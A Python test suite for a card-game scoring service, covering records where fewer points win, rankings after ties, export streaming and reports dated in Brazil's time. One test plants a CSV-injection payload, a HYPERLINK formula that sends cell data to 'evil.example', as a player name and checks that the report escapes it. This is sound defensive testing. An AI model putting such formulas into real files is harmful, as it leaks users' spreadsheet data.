"""Reads of games played alone, where points count against, and at the edges of a period:
the records, the reports (their CSV too), the average place and the export, each as the
game's own ranking and a torneio's table read it."""

from __future__ import annotations

import re
from typing import Any

import httpx
import msgspec

from service.http.exports import controller
from tests.api.conftest import ADMIN, Table
from tests.api.play import create_competition, create_game, prepared
from tests.api.test_reports import confirmed
from tests.projections.test_http import settled

Json = dict[str, Any]
COPAS_HAND = [0, 13, 8, 5]


async def copas_games(
    client: httpx.AsyncClient, table: Table, *hands: list[int]
) -> tuple[str, list[Json]]:
    """A competition of Copas games, one a hand, each hand played until the game is over,
    each confirmed by the organizer: the competition, and each game's last state."""
    competition = await create_competition(client, table.scorekeeper, "copas")
    states = []
    for hand in hands:
        game = await create_game(client, table, "copas", competition_id=competition)
        state = await game.state()
        while state["status"] == "in_progress":
            state = await game.ok("results", {"points": hand})
        await confirmed(game, by_organizer=True)
        states.append(state)
    await settled(client)
    return competition, states


async def finished_copas(client: httpx.AsyncClient, table: Table) -> Json:
    competition, (state,) = await copas_games(client, table, COPAS_HAND)
    return {"state": state, "competition": competition}


async def test_a_game_played_alone_sets_the_game_records(
    client: httpx.AsyncClient, table: Table
) -> None:
    """A confirmed Copas game (4 players alone) is a game like any other: it had hands, so
    the game's records (most hands in a game) name it, though its seats have no partner
    (its results typed at once, it lasted no time: no longest game)."""
    played = await finished_copas(client, table)
    body = (await client.get("/v1/records", params={"game": "copas", "min_games": 1})).json()
    kinds = {r["kind"] for r in body["records"]}
    assert "most-games-won" in kinds  # the game counted
    assert played["state"]["hands"], "the game has hands"
    assert "most-hands-in-a-game" in kinds, sorted(kinds)
    assert "biggest-hand" not in kinds  # a hand's points taken in Copas are no feat


async def test_copas_best_average_record_goes_to_the_player_who_took_fewest_points(
    client: httpx.AsyncClient, table: Table
) -> None:
    """In Copas fewer points are better (R7: "the points taken (fewer first)"); the ranking
    puts seat 0 (0 points a hand) first, and so does the record "best average points per
    hand": the fewest."""
    played = await finished_copas(client, table)
    ranking = (
        await client.get(
            "/v1/rankings", params={"game": "copas", "competition": played["competition"]}
        )
    ).json()
    first = ranking["rows"][0]["player_id"]
    last = ranking["rows"][-1]["player_id"]
    assert first == table.players[0].id
    assert last == table.players[1].id
    body = (await client.get("/v1/records", params={"game": "copas", "min_games": 1})).json()
    (best,) = [r for r in body["records"] if r["kind"] == "best-average-points-per-hand"]
    assert best["player_id"] != last, best


async def test_a_report_csv_never_writes_a_name_as_a_spreadsheet_formula(
    client: httpx.AsyncClient, table: Table
) -> None:
    """The report CSV (`?format=csv`) carries partners', opponents' and top players' names,
    and the competition's name: a name that begins with "=" would be a formula when the
    sheet is opened (CSV injection), so it is written with a quote before it."""
    from tests.api.play import prepared

    formula = '=HYPERLINK("http://evil.example/?"&A1,"ver")'
    renamed = await client.patch(
        f"/v1/players/{table.players[1].id}", json={"name": formula}, headers=ADMIN
    )
    assert renamed.status_code == 200, renamed.text
    game = await prepared(client, table, "finished")
    for player in table.players:
        await game.ok("confirmations", {}, by=player)
    await settled(client)
    answer = await client.get(f"/v1/players/{table.players[0].id}/report", params={"format": "csv"})
    assert answer.status_code == 200, answer.text
    import csv
    import io

    cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
    assert formula in cells or formula not in answer.text  # the name is in the sheet
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@") and not c[1:2].isdigit()], [
        c for c in cells if c.startswith("=")
    ]


async def test_the_last_of_four_behind_a_three_way_tie_is_counted_fourth(
    client: httpx.AsyncClient, table: Table
) -> None:
    """Copas, three seats tied on the fewest points and the fourth alone last: the game's
    places are [["0","1","2"],["3"]]. The last of four is fourth in the ranking's
    `average_place` (and the `place` counter), as a torneio's table places it, not second
    (a lone runner-up behind a single winner)."""
    competition, (state,) = await copas_games(client, table, [4, 4, 4, 14])
    assert state["places"] == [["0", "1", "2"], ["3"]], state["places"]
    ranking = (
        await client.get("/v1/rankings", params={"game": "copas", "competition": competition})
    ).json()
    last = next(r for r in ranking["rows"] if r["player_id"] == table.players[3].id)
    assert last["values"]["average_place"] == 4, last["values"]


async def test_the_export_of_every_game_writes_once_one_that_finishes_while_it_streams(
    client: httpx.AsyncClient, table: Table, monkeypatch: Any
) -> None:
    """`/v1/exports/games?status=all` pages by a game's end, or its creation while it is in
    progress: a game that finishes while the export streams moves after the cursor, and is
    still written once (an import of the file would refuse a second line with its id)."""
    from tests.api.play import prepared

    monkeypatch.setattr(controller, "PAGE", 1)  # the same with 100 games a page, past 100
    playing = await prepared(client, table, "one hand")  # created first, still in progress
    await prepared(client, table, "finished")  # finished after `playing` was created
    await settled(client)
    state = client._transport.app.state  # type: ignore[attr-defined]
    filters = controller._Filters(None, None, None, None, None, "all")
    ids = []
    async for line in controller._lines(state, filters):
        ids.append(msgspec.json.decode(line)["id"])
        if len(ids) == 1:  # the scorekeeper finishes the game meanwhile
            assert ids[0] == playing.id
            await playing.win_by_results("pontos")
            await settled(client)
    assert len(ids) == len(set(ids)), ids


async def played_on(client: httpx.AsyncClient, table: Table, local_times: list[str]) -> Any:
    """A pontos game won by team A, its hands written down later with their times (D27),
    each given in Brazil's time (-03:00); confirmed by its four players."""
    game = await create_game(client, table, "pontos")
    for at in local_times:
        await game.ok(
            "results",
            {"outcome": "batida", "seat": 0, "kind": "cruzada", "played_at": at},
        )
    assert (await game.state())["status"] == "finished"
    for player in table.players:
        await game.ok("confirmations", {}, by=player)
    await settled(client)
    return game


async def test_the_report_page_counts_october_in_brazils_time(
    client: httpx.AsyncClient, table: Table
) -> None:
    """A game that ends at 23:30 on 31 October in the bar is October's (G37): the report page
    reads its `desde`/`ate` as Brazil's days, as the ranking page does, counts it, and heads
    its period 01/10 to 31/10."""
    await played_on(client, table, ["2025-10-31T23:00:00-03:00", "2025-10-31T23:30:00-03:00"])
    october = {"desde": "2025-10-01", "ate": "2025-10-31"}
    zé = table.players[0].id
    ranking = await client.get("/ranking", params=october)
    assert ranking.status_code == 200
    assert zé in ranking.text  # the ranking page counts the game in October
    page = await client.get(f"/jogadores/{zé}/relatorio", params=october)
    assert page.status_code == 200, page.text[-300:]
    import re

    played = re.search(r'data-medida="games_played"><td>[^<]*</td><td class="num">(\d+)', page.text)
    assert played is not None
    heading = re.search(r"de (\d\d/\d\d/\d{4}) a (\d\d/\d\d/\d{4})", page.text)
    assert heading is not None
    assert (played[1], heading[1], heading[2]) == ("1", "01/10/2025", "31/10/2025")


async def test_a_copas_report_puts_first_the_player_who_took_fewer_points(
    client: httpx.AsyncClient, table: Table
) -> None:
    """Two Copas games of a competition, Zé and Ana one win each; Zé took 104 points in
    all, Ana 112. In Copas fewer points are better: the competition's ranking and its
    report's `top_players` both put Zé first."""
    competition, _ = await copas_games(client, table, [0, 13, 8, 5], [13, 1, 4, 8])
    zé, ana = table.players[0].id, table.players[1].id
    ranking = (await client.get("/v1/rankings", params={"competition": competition})).json()
    assert [r["player_id"] for r in ranking["rows"][:2]] == [zé, ana], ranking["rows"]
    report = (await client.get(f"/v1/competitions/{competition}/report")).json()
    top = [(p["player_id"], p["won"], p["points"]) for p in report["top_players"][:2]]
    assert top == [(zé, 1, 104), (ana, 1, 112)], top


async def test_the_export_writes_once_a_game_reopened_and_finished_again_while_it_streams(
    client: httpx.AsyncClient, table: Table, monkeypatch: Any
) -> None:
    """A game written finished, whose last hand is annulled (the game reopens) and which
    finishes again while the export streams, moves after the cursor (its new end): it is
    still written once."""
    monkeypatch.setattr(controller, "PAGE", 1)
    game = await prepared(client, table, "finished")
    await prepared(client, table, "finished")
    await settled(client)
    state = client._transport.app.state  # type: ignore[attr-defined]
    for status in ("finished", "all"):
        filters = controller._Filters(None, None, None, None, None, status)
        ids: list[str] = []
        async for line in controller._lines(state, filters):
            ids.append(msgspec.json.decode(line)["id"])
            if ids[-1] == game.id and ids.count(game.id) == 1:
                last = len((await game.state())["hands"])
                await game.ok("annulments", {"hand": last})
                await game.win_by_results("pontos")
                await settled(client)
        assert len(ids) == len(set(ids)), (status, ids)


async def test_cacheta_best_average_goes_to_the_player_who_lost_the_fewest_lives(
    client: httpx.AsyncClient, table: Table
) -> None:
    """Cacheta's score is the lives each seat lost (R10): its points count against the
    player, as Copas' do. Zé wins both games losing 1 life in 7 rounds; the others lose 6
    each: the record "best average points per hand" is Zé's."""
    competition = await create_competition(client, table.scorekeeper, "cacheta")
    games = []
    for rounds in ([0, 0, 0], [1, 0, 0, 0]):
        game = await create_game(
            client, table, "cacheta", rules={"target": 3}, competition_id=competition
        )
        games.append(game.id)
        for winner in rounds:
            state = await game.ok("results", {"winner": winner, "cards": 9})
        assert (state["status"], state["winner"]) == ("finished", "0"), state
        await confirmed(game, by_organizer=True)
    await settled(client)
    best = [
        r["player_id"]
        for r in await _records(client, "cacheta")
        if r["kind"] == "best-average-points-per-hand"
    ]
    assert best == [table.players[0].id], best
    first_game = games[0]  # Zé lost no life in it: the lowest score a game was won with
    lowest = [
        (r["player_id"], r["value"], r["match_id"])
        for r in await _records(client, "cacheta")
        if r["kind"] == "lowest-winning-score"
    ]
    assert lowest == [(table.players[0].id, 0.0, first_game)], lowest


async def test_no_record_celebrates_the_most_points_where_points_count_against(
    client: httpx.AsyncClient, table: Table
) -> None:
    """Copas: seat 0 wins taking 0 points, then seat 3 wins taking 8; no "highest final
    score" goes to the 8 (nor to anyone: the most points is no feat there)."""
    await copas_games(client, table, [0, 13, 8, 5], [4, 13, 8, 1])
    kinds = {r["kind"] for r in await _records(client, "copas")}
    assert "highest-score" not in kinds
    assert "most-hands-in-a-game" in kinds


async def test_where_points_count_against_a_game_won_with_the_fewest_is_a_record(
    client: httpx.AsyncClient, table: Table
) -> None:
    """Copas (G52): seat 3 wins a game taking 8 points a hand, then seat 0 one taking none;
    the record "lowest winning score" is seat 0's game, at 0 (the best there is, so a
    record of 0 is kept, where the records of the most are kept above 0)."""
    _, (eight, nothing) = await copas_games(client, table, [4, 13, 8, 1], [0, 13, 8, 5])
    assert eight["winner"] != nothing["winner"], (eight["winner"], nothing["winner"])
    lowest = [r for r in await _records(client, "copas") if r["kind"] == "lowest-winning-score"]
    assert [(r["player_id"], r["value"], r["match_id"]) for r in lowest] == [
        (table.players[0].id, 0.0, nothing["id"])
    ], lowest
    assert "count against" in lowest[0]["description"]


async def _records(client: httpx.AsyncClient, game: str) -> list[Json]:
    body = (await client.get("/v1/records", params={"game": game, "min_games": 1})).json()
    return list(body["records"])


async def test_a_games_page_places_sides_as_the_statistics_count_them(
    client: httpx.AsyncClient, table: Table
) -> None:
    """Two tied first, two tied third (R7: 1, 1, 3): the player's statistics count the third
    3rd, and so does the game's page (its "Colocação" and its sides)."""
    _, (state,) = await copas_games(client, table, [0, 0, 13, 13])
    assert state["places"] == [["0", "1"], ["2", "3"]], state["places"]
    stats = (
        await client.get(f"/v1/players/{table.players[2].id}/stats", params={"game": "copas"})
    ).json()
    counted = stats.get("game_counters", stats)
    page = (await client.get(f"/partidas/{state['id']}")).text
    shown = re.findall(r"(\d)º", page)
    assert counted["place"] == 3, counted
    assert "2" not in shown, shown
    assert "3" in shown, shown


async def test_a_cacheta_report_puts_its_top_players_as_its_ranking_does(
    client: httpx.AsyncClient, table: Table
) -> None:
    """Cacheta ranks by games won, then the average place (R10): the seat out last (2nd,
    though it lost 4 lives) ranks before the two out first (3rd, 3 lives each), in the
    ranking and in the report's top players."""
    competition = await create_competition(client, table.scorekeeper, "cacheta")
    game = await create_game(
        client, table, "cacheta", rules={"target": 3}, competition_id=competition
    )
    for winner, cards in ((1, 10), (0, 9), (0, 9), (0, 10)):
        state = await game.ok("results", {"winner": winner, "cards": cards})
    assert state["score"] == {"0": 2, "1": 4, "2": 3, "3": 3}, state["score"]
    await confirmed(game, by_organizer=True)
    await settled(client)
    ids = [p.id for p in table.players]
    ranking = (await client.get("/v1/rankings", params={"competition": competition})).json()
    report = (await client.get(f"/v1/competitions/{competition}/report")).json()
    assert [r["player_id"] for r in ranking["rows"]][:2] == ids[:2]
    assert [p["player_id"] for p in report["top_players"]][:2] == ids[:2]
